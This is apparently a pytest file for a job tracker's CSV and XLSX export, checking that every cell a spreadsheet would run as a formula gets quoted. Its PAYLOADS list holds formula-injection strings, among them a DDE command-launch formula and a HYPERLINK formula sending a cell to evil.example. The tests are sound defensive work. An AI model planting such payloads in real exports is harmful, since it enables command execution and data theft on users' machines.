"""CSV/XLSX export: columns, values, and no cell that a spreadsheet would run (QUALITY.md 14)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from followthrough.io.export import (
    COLUMNS,
    SHEET,
    XLSX_CELL_LIMIT,
    rows,
    safe_cell,
    unguard_cell,
    write_csv,
    write_xlsx,
)
from followthrough.services import Service, demo
from followthrough.store import db
from followthrough.store.repo import Repo

NOW = dt.datetime(2026, 11, 25, 8, 0, tzinfo=dt.UTC)

#: Payloads that start a formula in Excel, LibreOffice or Google Sheets if left alone.
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1",
    "+32 470 12 34 56",
    "-1",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\t",
    "\r\n@x",
    " =1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "  -x",
    "＝1+1",
    "'=1+1",
    "''+1",
]
#: Text that must come out unchanged.
BENIGN = ["ACME", "", "1+1=2", "a=b", "'quoted'", "' leading quote", "é=", "x\n=1", "2026-11-25"]

TEXT_FIELDS = {
    "Company": ("company",),
    "Role": ("role",),
    "Status": ("status",),
    "Channel": ("channel",),
    "Agency": ("agency",),
    "Recruiter": ("recruiter", "name"),
    "E-mail": ("recruiter", "email"),
    "URL": ("url",),
    "Next action": ("next_action", "title"),
    "Next action due": ("next_action", "due"),
    "Notes": ("notes",),
}


def starts_formula(text: str) -> bool:
    """What a spreadsheet does with a cell, as strictly as the OWASP guidance reads."""
    return text[:1] in ("\t", "\r") or text.lstrip()[:1] in tuple("=+-@＝＋－＠")


def item(**changes: Any) -> dict[str, Any]:
    """An application in the shape of Service.list_applications()."""
    base: dict[str, Any] = {
        "id": 7,
        "company": "ACME",
        "role": "Data Engineer",
        "status": "interviewing",
        "channel": "recruiter",
        "agency": "Northbridge",
        "recruiter": {"id": 3, "name": "Jane Roe", "email": "jane@example.org"},
        "url": "https://acme.example/jobs/1",
        "interest": 4,
        "notes": "Met at a meetup.",
        "competitors": [],
        "created_at": "2026-11-01T23:30:00-05:00",
        "next_action": {
            "title": "Send a thank-you note to Ann",
            "due": "2026-11-26T09:00:00+01:00",
        },
    }
    for key, value in changes.items():
        if isinstance(value, dict) and isinstance(base.get(key), dict):
            base[key] = {**base[key], **value}
        else:
            base[key] = value
    return base


def csv_cells(table: list[list[Any]]) -> list[list[str]]:
    out = io.StringIO(newline="")
    write_csv(table, out)
    text = out.getvalue()
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def xlsx_sheet(table: list[list[Any]]) -> tuple[Any, bytes]:
    out = io.BytesIO()
    write_xlsx(table, out)
    data = out.getvalue()
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == [SHEET]
    return book[SHEET], data


# ---------------------------------------------------------------- columns and rows


def test_headers_are_the_ones_the_importer_recognises() -> None:
    lowered = [c.lower() for c in COLUMNS]
    for name in ("company", "role", "status", "date applied", "recruiter", "e-mail", "url"):
        assert name in lowered
    assert {"notes", "interest", "next action", "next action due", "id"} <= set(lowered)
    assert len(set(lowered)) == len(lowered)


def test_rows_of_a_minimal_item_leave_the_gaps_empty() -> None:
    bare = item(agency=None, recruiter=None, url=None, interest=None, notes="", next_action=None)
    (row,) = rows([bare])
    assert len(row) == len(COLUMNS)
    values = dict(zip(COLUMNS, row, strict=True))
    assert values["ID"] == 7
    assert values["Date applied"] == dt.date(2026, 11, 1)  # the local date, not UTC's
    for name in ("Agency", "Recruiter", "E-mail", "URL", "Interest", "Next action", "Notes"):
        assert values[name] is None
    assert values["Last exchange"] is None


def test_rows_prefer_applied_on_and_take_last_exchange() -> None:
    (row,) = rows([item(applied_on="2026-10-30", last_exchange="2026-11-20T18:00:00+01:00")])
    values = dict(zip(COLUMNS, row, strict=True))
    assert values["Date applied"] == dt.date(2026, 10, 30)
    assert values["Last exchange"] == dt.date(2026, 11, 20)
    assert values["Next action due"] == "2026-11-26T09:00:00+01:00"


def test_rows_of_the_demo_through_the_real_service(tmp_path: Path) -> None:
    engine = db.open_database(db.sqlite_url(tmp_path / "x.db"), NOW)
    svc = Service(Repo(engine, db.ensure_user(engine, db.LOCAL_USER, NOW)), NOW)
    demo.fill(svc)
    apps = svc.list_applications()
    table = list(rows(apps))
    engine.dispose()
    assert len(table) == len(apps) == 5
    by_company = {r[1]: dict(zip(COLUMNS, r, strict=True)) for r in table}
    acme = by_company["ACME Analytics"]
    assert acme["Recruiter"] == "Jane Roe"
    assert acme["E-mail"] == "jane@northbridge.example"
    assert acme["Agency"] == "Northbridge Talent"
    assert acme["Interest"] == 5
    assert acme["Date applied"] == dt.date(2026, 11, 13)
    assert isinstance(acme["Next action"], str)
    assert dt.datetime.fromisoformat(acme["Next action due"]).utcoffset() == dt.timedelta(hours=1)
    # and both writers take them
    assert len(csv_cells(table)) == 6
    sheet, _ = xlsx_sheet(table)
    assert sheet.max_row == 6


# ---------------------------------------------------------------- safe_cell


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_quotes_every_formula_start(payload: str) -> None:
    safe = safe_cell(payload)
    assert safe == "'" + payload
    assert not starts_formula(safe)
    assert unguard_cell(safe) == payload


@pytest.mark.parametrize("text", BENIGN)
def test_safe_cell_leaves_plain_text_alone(text: str) -> None:
    assert safe_cell(text) == text
    assert unguard_cell(text) == text


@pytest.mark.parametrize("value", [None, 0, -5, 42, dt.date(2026, 1, 2)])
def test_safe_cell_leaves_numbers_dates_and_none_alone(value: Any) -> None:
    assert safe_cell(value) == value


@given(st.text())
def test_safe_cell_never_starts_a_formula_and_undoes_exactly(text: str) -> None:
    safe = safe_cell(text)
    assert not starts_formula(safe)
    assert unguard_cell(safe) == text


# ---------------------------------------------------------------- formula injection, end to end


def poisoned(field: tuple[str, ...], payload: str) -> dict[str, Any]:
    if len(field) == 2:
        return item(**{field[0]: {field[1]: payload}})
    return item(**{field[0]: payload})


@pytest.mark.parametrize("column", list(TEXT_FIELDS))
def test_no_text_field_can_start_a_formula_in_csv(column: str) -> None:
    index = COLUMNS.index(column)
    table = [row for p in PAYLOADS for row in rows([poisoned(TEXT_FIELDS[column], p)])]
    cells = csv_cells(table)
    assert cells[0] == list(COLUMNS)
    for payload, out in zip(PAYLOADS, cells[1:], strict=True):
        assert out[index] == "'" + payload
        for value in out:
            assert not starts_formula(value)


@pytest.mark.parametrize("column", list(TEXT_FIELDS))
def test_no_text_field_can_start_a_formula_in_xlsx(column: str) -> None:
    index = COLUMNS.index(column)
    table = [row for p in PAYLOADS for row in rows([poisoned(TEXT_FIELDS[column], p)])]
    sheet, data = xlsx_sheet(table)
    got = list(sheet.iter_rows(min_row=2))
    assert len(got) == len(PAYLOADS)
    for payload, out in zip(PAYLOADS, got, strict=True):
        cell = out[index]
        assert cell.data_type == "s"
        # XML turns a bare CR into LF when read back; the quote is what matters.
        assert cell.value == "'" + payload.replace("\r\n", "\n").replace("\r", "\n")
        for other in out:
            assert other.data_type != "f"
            if isinstance(other.value, str):
                assert not starts_formula(other.value)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = z.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml
    assert b"<f " not in xml


# ---------------------------------------------------------------- CSV details


def test_csv_keeps_unicode_quotes_and_line_breaks() -> None:
    notes = 'Zoë said "call me"\nsecond line, with a comma\r\nthird — 日本語 🙂'
    cells = csv_cells(list(rows([item(notes=notes, company="Café, Ltd")])))
    assert cells[1][COLUMNS.index("Notes")] == notes
    assert cells[1][COLUMNS.index("Company")] == "Café, Ltd"
    assert cells[1][COLUMNS.index("ID")] == "7"
    assert cells[1][COLUMNS.index("Date applied")] == "2026-11-01"


def test_csv_rows_end_in_crlf_and_the_bom_is_optional(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        assert write_csv(rows([item(), item(id=8)]), out, bom=False) == 2
    raw = path.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\r\n") == 3
    assert b"\r\r" not in raw
    with path.open(encoding="utf-8", newline="") as back:
        assert [r[0] for r in csv.reader(back)] == ["ID", "7", "8"]


@given(st.text())
@settings(max_examples=60)
def test_csv_round_trips_any_text_through_the_guard(text: str) -> None:
    cells = csv_cells(list(rows([item(notes=text, company=text or "x")])))
    assert unguard_cell(cells[1][COLUMNS.index("Company")]) == (text or "x")
    assert unguard_cell(cells[1][COLUMNS.index("Notes")]) == text


# ---------------------------------------------------------------- XLSX details


def test_xlsx_types_header_and_layout(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    assert write_xlsx(rows([item(last_exchange="2026-11-20")]), path) == 1
    sheet = openpyxl.load_workbook(path)[SHEET]
    header = next(sheet.iter_rows(max_row=1))
    assert [c.value for c in header] == list(COLUMNS)
    assert all(c.font.b for c in header)
    assert sheet.freeze_panes == "A2"
    row = {c.value: cell for c, cell in zip(header, next(sheet.iter_rows(min_row=2)), strict=True)}
    assert row["ID"].data_type == "n"
    assert row["ID"].value == 7
    assert row["Interest"].data_type == "n"
    assert row["Interest"].value == 4
    for name, day in (
        ("Date applied", dt.date(2026, 11, 1)),
        ("Last exchange", dt.date(2026, 11, 20)),
    ):
        assert row[name].is_date
        assert row[name].value.date() == day
        assert row[name].number_format == "yyyy-mm-dd"
    assert row["Next action due"].value == "2026-11-26T09:00:00+01:00"
    assert row["Next action due"].data_type == "s"


def test_xlsx_cuts_text_at_the_excel_limit_and_drops_illegal_characters() -> None:
    long = "=" + "x" * 40_000
    wide = "🙂" * 20_000  # two UTF-16 units each
    table = list(rows([item(notes=long, company="bell\x07 and nul\x00", role=wide)]))
    sheet, _ = xlsx_sheet(table)
    row = next(sheet.iter_rows(min_row=2))
    notes = row[COLUMNS.index("Notes")].value
    assert notes.startswith("'=x")
    assert notes.endswith("…")
    assert len(notes) == XLSX_CELL_LIMIT
    role = row[COLUMNS.index("Role")].value
    assert len(role.encode("utf-16-le")) // 2 <= XLSX_CELL_LIMIT
    assert role.endswith("…")
    assert row[COLUMNS.index("Company")].value == "bell\ufffd and nul\ufffd"


def test_xlsx_of_no_rows_is_a_header() -> None:
    sheet, _ = xlsx_sheet([])
    assert sheet.max_row == 1
